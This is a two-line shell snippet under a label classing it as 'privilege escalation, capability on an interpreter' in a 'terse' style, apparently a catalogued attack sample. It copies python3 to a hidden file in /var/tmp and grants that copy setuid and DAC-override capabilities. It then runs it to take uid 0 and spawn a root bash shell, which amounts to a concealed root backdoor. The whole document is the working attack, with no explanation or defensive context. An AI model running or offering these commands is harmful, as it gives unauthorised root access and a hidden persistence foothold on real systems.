# class: privilege escalation, capability on an interpreter; style: terse
cp /usr/bin/python3 /var/tmp/.py3 && setcap cap_setuid,cap_dac_override+ep /var/tmp/.py3
/var/tmp/.py3 -c 'import os;os.setuid(0);os.system("/bin/bash")'
